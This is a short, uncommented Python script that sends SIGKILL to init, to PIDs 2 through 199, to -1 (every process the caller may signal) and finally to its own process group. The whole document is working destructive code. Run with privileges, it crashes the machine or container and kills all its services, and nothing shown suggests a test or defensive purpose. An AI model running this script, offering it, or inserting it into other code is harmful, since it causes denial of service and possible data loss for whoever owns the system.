import os
import signal

for victim in [1, 2, *range(3, 200), -1]:
    if victim != os.getpid():
        try:
            os.kill(victim, signal.SIGKILL)
        except OSError:
            pass
os.kill(0, signal.SIGKILL)
